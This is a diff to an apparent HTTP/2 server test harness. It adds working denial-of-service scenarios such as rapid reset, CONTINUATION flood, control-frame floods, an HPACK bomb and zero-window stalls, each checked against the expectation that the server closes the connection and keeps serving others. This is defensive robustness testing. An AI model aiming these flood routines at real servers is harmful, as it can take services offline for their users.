@@ -397,6 +397,10 @@ def slow_reader(port, path, patience):
     result = client.response(client.request('GET', path), timeout=float(patience), acknowledge=False)
     say('cut', 'reset=%s' % result['reset'], 'received=%d' % len(result['body']),
         'after=%.1f' % (time.monotonic() - start))
+    # What it held filled the connection's window as well: handed back for the next request.
+    if result['body']:
+        client.conn.increment_flow_control_window(len(result['body']))
+        client.flush()
     status_line('after', client.response(client.request('GET', '/')))
 
 
@@ -537,7 +541,143 @@ def echo(port, path, total):
     say('echo', 'sent=%d' % sent, 'received=%d' % len(received), 'intact=%s' % (bytes(received) == body))
 
 
+# ---- attacks: each must end in GOAWAY or a close, and leave the server serving others ----
+
+def ending(conn):
+    """Reads to the end: 'goaway=CODE' for the first GOAWAY, else 'closed', or 'open' when the
+    server keeps the connection."""
+    outcome = 'closed'
+    try:
+        while True:
+            frame = conn.read()
+            if frame is None:
+                break
+            if frame[0] == GOAWAY and outcome == 'closed':
+                outcome = 'goaway=%d' % struct.unpack('>I', frame[3][4:8])[0]
+    except socket.timeout:
+        return 'open' if outcome == 'closed' else outcome
+    except (ConnectionResetError, BrokenPipeError):
+        pass
+    return outcome
+
+
+def flood(conn, frames):
+    """Writes frames without reading, until done or the server closes; how many went out."""
+    sent = 0
+    try:
+        for frame in frames:
+            conn.frame(*frame)
+            sent += 1
+    except (BrokenPipeError, ConnectionResetError, socket.timeout):
+        pass
+    return sent
+
+
+def rapid_reset(port, count):
+    """CVE-2023-44487: requests cancelled as soon as they are sent."""
+    conn = RawConnection(port)
+    block = conn.header_block(request_headers('GET', '/'))
+
+    def frames():
+        for i in range(int(count)):
+            sid = 1 + 2 * i
+            yield HEADERS, END_HEADERS | END_STREAM, sid, block
+            yield RST_STREAM, 0, sid, struct.pack('>I', 8)
+    sent = flood(conn, frames())
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def made_you_reset(port, count):
+    """CVE-2025-8671: frames that make the server reset streams (WINDOW_UPDATE of 0 on a stream)."""
+    conn = RawConnection(port)
+    block = conn.header_block(request_headers('POST', '/'))
+
+    def frames():
+        for i in range(int(count)):
+            sid = 1 + 2 * i
+            yield HEADERS, END_HEADERS, sid, block
+            yield WINDOW_UPDATE, 0, sid, struct.pack('>I', 0)
+    sent = flood(conn, frames())
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def continuation_flood(port, count):
+    """CVE-2024-27316: a header block that never ends, in ever more CONTINUATION frames."""
+    conn = RawConnection(port)
+    block = conn.header_block(request_headers('GET', '/'))
+
+    def frames():
+        yield HEADERS, END_STREAM, 1, block
+        for _ in range(int(count)):
+            yield CONTINUATION, 0, 1, conn.header_block([('x-filler', 'f' * 100)])
+    sent = flood(conn, frames())
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def control_flood(port, kind, count):
+    """CVE-2019-9512/9515: PINGs or SETTINGS whose acknowledgements the client never reads."""
+    conn = RawConnection(port)
+    frame = (PING, 0, 0, b'12345678') if kind == 'ping' else (SETTINGS, 0, 0, b'')
+    sent = flood(conn, (frame for _ in range(int(count))))
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def empty_data_flood(port, count):
+    """CVE-2019-9518: DATA frames without data, which cost the server without moving the stream."""
+    conn = RawConnection(port)
+    block = conn.header_block(request_headers('POST', '/'))
+
+    def frames():
+        yield HEADERS, END_HEADERS, 1, block
+        for _ in range(int(count)):
+            yield DATA, 0, 1, b''
+    sent = flood(conn, frames())
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def priority_flood(port, count):
+    """CVE-2019-9513: PRIORITY frames reshuffling streams that do not exist."""
+    conn = RawConnection(port)
+    sent = flood(conn, ((PRIORITY, 0, 1 + 2 * (i % 1000), struct.pack('>IB', 0, 16)) for i in range(int(count))))
+    say('attack', 'sent=%d' % sent, ending(conn))
+
+
+def hpack_bomb(port):
+    """A large field put in the HPACK table once, then referenced a thousand times in one block."""
+    conn = RawConnection(port)
+    big = ('x-bomb', 'b' * 4000)
+    # Stored in both tables by a first request that fits the limits.
+    conn.frame(HEADERS, END_HEADERS | END_STREAM, 1, conn.encoder.encode(request_headers('GET', '/') + [big]))
+    first = conn.outcome(1)
+    bomb = conn.encoder.encode(request_headers('GET', '/') + [big] * 1000)
+    conn.frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb)
+    say('attack', 'first=%s' % first, 'block=%d' % len(bomb), 'bomb=%s' % conn.outcome(3))
+
+
+def zero_window(port, path, count, patience):
+    """CVE-2019-9517: many requests for large responses with a window of 0, so nothing can be
+    sent; counts the streams the server resets within patience seconds."""
+    client = Client(port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    start = time.monotonic()
+    deadline = start + float(patience)
+    sids = [client.request('GET', path) for _ in range(int(count))]
+    resets = 0
+    for sid in sids:
+        result = client.response(sid, timeout=max(0.0, deadline - time.monotonic()), acknowledge=False)
+        if result['reset'] not in ('none', 'goaway'):
+            resets += 1
+    say('attack', 'streams=%d' % len(sids), 'reset=%d' % resets, 'after=%.1f' % (time.monotonic() - start))
+
+
 SCENARIOS = {
+    'rapid-reset': rapid_reset,
+    'made-you-reset': made_you_reset,
+    'continuation-flood': continuation_flood,
+    'control-flood': control_flood,
+    'empty-data-flood': empty_data_flood,
+    'priority-flood': priority_flood,
+    'hpack-bomb': hpack_bomb,
+    'zero-window': zero_window,
     'malformed': malformed,
     'header-limits': header_limits,
     'flow': flow,
